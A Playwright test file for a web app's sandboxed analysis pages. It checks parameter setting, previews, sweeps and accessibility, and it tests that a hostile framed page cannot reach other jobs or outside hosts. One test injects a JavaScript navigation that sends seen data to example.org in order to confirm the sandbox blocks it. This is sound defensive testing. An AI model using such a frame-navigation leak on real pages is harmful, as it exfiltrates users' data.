"""Pages that analyses bring: what they are handed, what they set, and what none of them can do."""

from __future__ import annotations

import re
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, FrameLocator, Page, expect

from support.browsing import Person, person
from support.paged import Paged, paged
from support.populated import Populated
from support.sites import until

FOLDER = "pages"


@pytest.fixture(scope="module")
def place(shared_environments: Path) -> Iterator[Paged]:
    folder = Path(tempfile.mkdtemp(prefix="neurocaas-paged-"))
    folder.chmod(0o755)
    with paged(folder, shared_environments) as site:
        yield site
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def ada(browser: Browser, place: Paged) -> Iterator[Person]:
    with person(browser, place.url) as somebody:
        somebody.sign_in("ada")
        yield somebody


def frame_of(page: Page) -> FrameLocator:
    return page.frame_locator(".framed iframe")


def test_what_is_set_on_a_page_is_in_the_form_and_the_preview_answers_the_first_step(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/analyses/aligned/new?data={place.items['mouse.txt']}")
    expect(page.locator("#setup")).to_contain_text("prepared first")
    page.get_by_role("button", name="Set up").click()
    frame = frame_of(page)
    expect(frame.locator("#file")).to_have_text("look.txt: MOUSE FOUR\n")
    expect(frame.locator("#threshold")).to_have_text("0.5")
    frame.get_by_role("button", name="Place landmarks").click()
    expect(page.locator("[name='p.fit.threshold']")).to_have_value("0.25")
    expect(page.locator("[name='p.fit.how']")).to_have_value('"exact"')
    expect(page.locator("[name='p.fit.landmarks']")).to_have_value(
        '[\n  {"name":"left","x":3.5,"y":7},\n  {"name":"right","x":20,"y":7}\n]'
    )
    expect(frame.locator("#threshold")).to_have_text("0.25")
    page.locator("[name='p.fit.threshold']").fill("0.75")  # by hand, and the page hears of it
    expect(frame.locator("#threshold")).to_have_text("0.75")
    expect(page.locator("#quote")).to_contain_text("1 answered from earlier results")
    ada.settle()
    ada.shot(FOLDER, "set-up")
    page.locator("#submit").click()
    page.wait_for_url("**/jobs/*")
    expect(page.locator(".job-head .status")).to_have_text("Succeeded")
    page.get_by_role("link", name="Explore").click()
    frame = frame_of(page)
    expect(frame.locator("#files")).to_contain_text("look/look.txt: MOUSE FOUR")
    expect(frame.locator("#files")).to_contain_text('fit/fit.txt: {"threshold":0.75,"how":"exact"')
    assert ada.faults == []


def test_what_is_chosen_as_another_input_is_in_the_preview_and_is_no_dataset(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/analyses/aligned/new?data={place.items['mouse.txt']}&data={place.items['allen.txt']}")
    dropped = page.get_by_label("allen.txt")
    expect(dropped).to_be_checked()  # as what was dropped on the page is, where it may be a dataset
    page.get_by_label("Outline").select_option(label="allen.txt")
    expect(dropped).not_to_be_checked()
    expect(page.locator("#setup")).to_contain_text("prepared first")
    page.get_by_role("button", name="Set up").click()
    expect(frame_of(page).locator("#file")).to_have_text("look.txt: MOUSE FOUR\nOUTLINE\n")
    expect(page.locator("#quote")).to_contain_text("2 stacks on 1 dataset")
    assert ada.faults == []


def test_a_preview_that_was_made_is_found_again_and_the_theme_is_passed_on(ada: Person, place: Paged) -> None:
    page = ada.page
    page.emulate_media(color_scheme="light")
    ada.open(f"/analyses/aligned/new?data={place.items['secret.txt']}")
    frame = frame_of(page)
    expect(frame.locator("#file")).to_have_text("look.txt: NOBODY ELSE'S\n")
    expect(frame.locator("#theme")).to_have_text("light")
    page.emulate_media(color_scheme="dark")
    expect(frame.locator("#theme")).to_have_text("dark")
    assert ada.faults == []


def test_a_parameter_that_there_is_not_is_refused_with_all_that_came_with_it(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/analyses/aligned/new?data={place.items['secret.txt']}")
    frame = frame_of(page)
    frame.get_by_role("button", name="Set nonsense").click()
    said = "The page set fit.nonsense, which is no parameter of aligned@"
    expect(page.locator(".framed-faults")).to_contain_text(said)
    expect(frame.locator("#refused")).to_contain_text(said)
    expect(page.locator("[name='p.fit.threshold']")).to_have_value("0.5")
    assert ada.faults == []


def test_two_points_of_a_sweep_are_compared_on_one_page(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/analyses/aligned/new?data={place.items['secret.txt']}")
    page.locator("details.sweep", has=page.locator("[name='s.fit.threshold']")).locator("summary").click()
    page.locator("[name='s.fit.threshold']").fill("0.1, 0.2")
    expect(page.locator("#quote")).to_contain_text("3 stacks")
    page.locator("#submit").click()
    page.wait_for_url("**/jobs/*")
    expect(page.locator(".job-head .status")).to_have_text("Succeeded")
    page.get_by_role("link", name="Explore").click()
    frame = frame_of(page)
    expect(frame.locator("#run")).to_have_text("fit.threshold=0.1")
    for point in ("0.1", "0.2"):
        listed = frame.locator("#files li", has_text=f"list fit.threshold={point}: fit/fit.txt")
        expect(listed).to_contain_text(f'"threshold":{point}')
        expect(frame.locator("#files")).to_contain_text(f"list fit.threshold={point}: look/look.txt: NOBODY ELSE'S")
    page.get_by_label("Dataset and point").select_option(label="threshold=0.2")
    expect(frame.locator("#threshold")).to_have_text("0.2")
    assert ada.faults == []


@pytest.mark.parametrize("where", ["set-up", "results"])
def test_a_hostile_page_reaches_nothing(ada: Person, place: Paged, where: str) -> None:
    page = ada.page
    sent: list[str] = []
    here = f"/jobs/{place.jobs['hostile']}/explore"
    if where == "set-up":
        here = f"/analyses/hostile/new?data={place.items['rat.txt']}"
    ada.open(here)
    page.on("request", lambda request: sent.append(request.url))
    frame = frame_of(page)
    expect(frame.locator("#tried")).to_contain_text("all: tried")
    tried = dict(line.split(": ", 1) for line in frame.locator("#tried").inner_text().splitlines())
    assert tried.pop("all") == "tried"
    assert tried.pop("own file") == "RAT ONE"
    allowed = {name: what for name, what in tried.items() if not what.startswith("refused")}
    assert allowed == {"run null": "done"}, tried  # no run is the one that is shown
    assert {request for request in sent if place.jobs["secret"] in request or "example.org" in request} == set()
    assert page.url == place.url + here
    assert "theme" not in {one["name"] for one in ada.context.cookies()}  # which the form that it sent would have set
    assert page.locator(".framed iframe").bounding_box()["height"] <= 4100  # type: ignore[index]
    faults = page.locator(".framed-faults")
    if where == "set-up":
        expect(faults).to_contain_text("The page set nonsense, which is no parameter of hostile@")
        expect(faults).to_contain_text("a number is right")
        expect(faults).to_contain_text("can't be written as JSON")
        expect(page.locator("[name='p.size']")).to_have_value("3")
    else:
        expect(faults).to_contain_text("The page set a parameter, but the job has run already.")
    ada.shot(FOLDER, f"hostile-{where}")


def test_a_page_can_not_lead_its_frame_elsewhere_to_tell_what_it_saw(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/jobs/{place.jobs['hostile']}/explore")
    expect(frame_of(page).locator("#tried")).to_contain_text("all: tried")
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    inside = page.frames[-1]
    inside.evaluate("setTimeout(() => { location.href = 'https://example.org/?told=RAT+ONE' })")
    until(lambda: any("example.org" in fault for fault in _heard(page, ada)))
    assert [one for one in sent if "example.org" in one] == []


def _heard(page: Page, somebody: Person) -> list[str]:
    page.evaluate("0")  # so that what the browser says meanwhile is heard
    return somebody.faults


def test_the_page_that_the_tutorial_shows_does_what_it_says(ada: Person, place: Paged) -> None:
    page = ada.page
    ada.open(f"/analyses/documented/new?data={place.items['mouse.txt']}")
    page.get_by_role("button", name="Set up").click()
    frame = frame_of(page)
    expect(frame.locator("#share")).to_have_text("2 of 3 are above 0.5")
    frame.get_by_label("Threshold").press("ArrowRight")
    expect(page.locator("[name='p.threshold']")).to_have_value("0.51")
    page.locator("[name='p.threshold']").fill("0.75")
    expect(frame.locator("#share")).to_have_text("1 of 3 are above 0.75")
    assert ada.faults == []


def test_a_page_opened_by_its_address_has_no_origin_either(ada: Person, place: Paged) -> None:
    for path in (f"/jobs/{place.jobs['hostile']}/explore/page", "/analyses/hostile/setup-page"):
        answer = ada.open(path)
        policy = answer.header_value("content-security-policy") or ""
        assert policy.startswith("sandbox allow-scripts; default-src 'none'")
        assert answer.header_value("x-content-type-options") == "nosniff"
        assert ada.page.evaluate("self.origin") == "null"


@pytest.mark.parametrize(("theme", "width"), [("light", 1280), ("dark", 1280), ("light", 390), ("dark", 390)])
def test_the_components_of_a_recording_are_explored(browser: Browser, lab: Populated, theme: Any, width: int) -> None:
    size = {"width": width, "height": 900}
    with person(browser, lab.url, color_scheme=theme, viewport=size) as ada:
        ada.sign_in("ada")
        page = ada.page
        ada.open(f"/jobs/{lab.jobs['succeeded']}/explore")
        frame = frame_of(page)
        expect(frame.get_by_role("heading", name="Component 1:")).to_be_visible()
        second = frame.get_by_role("button", name="Component 2,")
        second.focus()
        page.keyboard.press("Enter")
        expect(second).to_have_attribute("aria-pressed", "true")
        expect(frame.get_by_role("heading", name="Component 2:")).to_be_visible()
        frame.locator("#map").focus()
        for _ in range(3):
            page.keyboard.press("ArrowRight")
        expect(frame.get_by_role("heading", name="Pixel x")).to_be_visible()
        box = frame.locator("#mean-map").bounding_box()
        assert box is not None
        frame.locator("#mean-map").click(position={"x": box["width"] * 0.36, "y": box["height"] * 0.76})
        expect(frame.locator("#pixel-title")).to_have_text(re.compile(r"Pixel x [78]\d, y 1[12]\d"))
        ada.shot(FOLDER, f"pca-{theme}-{width}")
        inside = page.frames[-1]
        assert inside.evaluate("document.documentElement.scrollWidth") <= inside.evaluate("innerWidth")
        found = Axe().run(inside).response["violations"]  # type: ignore[arg-type]
        assert [one["id"] for one in found if one["impact"] in {"serious", "critical"}] == []
        assert ada.faults == []
